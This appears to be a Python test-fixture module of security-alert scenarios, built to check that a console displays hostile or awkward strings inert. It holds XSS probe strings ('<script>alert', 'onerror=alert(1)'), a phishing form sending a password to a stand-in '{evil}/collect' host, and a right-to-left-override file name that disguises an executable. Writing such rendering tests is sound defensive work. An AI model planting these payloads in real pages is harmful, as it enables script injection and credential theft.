"""Rows that are hard on a page: very long, looking like HTML, in other scripts, written backwards.

All of them could come from a real attacker or a real customer; pages must show them inert.
"""

from .clues import (
    DeviceClue,
    FileClue,
    MessageClue,
    UrlClue,
    UserClue,
    Verdict,
)
from .sensors import (
    ANTIVIRUS,
    CUSTOM,
    MAIL,
)
from .shape import (
    Ending,
    Scenario,
    Severity,
    Stage,
)

# A table: each alert is one block, read downwards.
# fmt: off

HTML_TITLE = Scenario(
    "html-in-title",
    "Attachment <b>invoice</b>.html opened by {user}",
    (
        Stage(
            "<b>invoice</b>.html asks for a password",
            'The attachment holds a form: <form action="https://{evil}/collect"><input name=password></form>'
            '<script>alert("{account}")</script> & a picture of the sign-in page.',
            MAIL, Severity.MEDIUM, "InitialAccess", ("T1566.001",), "mail",
            (MessageClue("<img src=x onerror=alert(1)> {lure}", attachments=1,
                         url="https://{evil}/collect?a=1&b=<2>"),
             FileClue("<b>invoice</b>.html"), UrlClue("https://{evil}/collect?a=1&b=<2>")),
        ),
    ),
    (Ending.PHISHING,),
)

LONG_TITLE = Scenario(
    "long-title",
    "Custom detection 'Sign-in to an administrative portal by a person outside the group of administrators "
    "from a "
    "machine that is neither compliant nor joined, outside office hours of the person's own site, with a "
    "browser that "
    "is more than two versions old, followed within thirty minutes by a change of a conditional access "
    "rule' matched "
    "for {user}",
    (
        Stage(
            "Sign-in to an administrative portal by a person outside the group of administrators from a "
            "machine that "
            "is neither compliant nor joined, outside office hours of the person's own site, with a "
            "browser that is "
            "more than two versions old, followed within thirty minutes by a change of a conditional "
            "access rule",
            "The query of this custom detection returned one row. It was written by the customer.",
            CUSTOM, Severity.LOW, "PrivilegeEscalation", ("T1484", "T1078.004"), "sign-in",
            (UserClue(), DeviceClue(verdict=Verdict.UNKNOWN)),
        ),
    ),
    (Ending.HARMLESS,),
)

OTHER_SCRIPTS = Scenario(
    "other-scripts",
    "'{family}' malware in 発注書_最終版.xlsm",
    (
        Stage(
            "'{family}' malware was prevented",
            "The file came as an order confirmation in Japanese, together with Счёт-фактура №204.pdf.",
            ANTIVIRUS, Severity.LOW, "Malware", ("T1204.002",), "malware",
            (DeviceClue(verdict=Verdict.CLEAN, role="attacked"), FileClue("発注書_最終版.xlsm", stopped=True),
             FileClue("Счёт-фактура №204.pdf", verdict=Verdict.UNKNOWN),
             FileClue("فاتورة نهائية.docx", verdict=Verdict.UNKNOWN)),
            threat="{family}",
        ),
    ),
    (Ending.MALWARE,),
)

BACKWARDS_NAME = Scenario(
    "backwards-name",
    "File whose name is written backwards on {device}",
    (
        Stage(
            "File name hides its ending with a right-to-left override",
            "Shown on screen the name ends in .docx; in truth it is a program. The sign U+202E turns the "
            "order.",
            ANTIVIRUS, Severity.MEDIUM, "DefenseEvasion", ("T1036.002",), "malware",
            (DeviceClue(role="attacked"), FileClue("Rooster_\u202excod.exe", stopped=True)),
        ),
    ),
    (Ending.MALWARE,),
)

SCENARIOS = (HTML_TITLE, LONG_TITLE, OTHER_SCRIPTS, BACKWARDS_NAME)
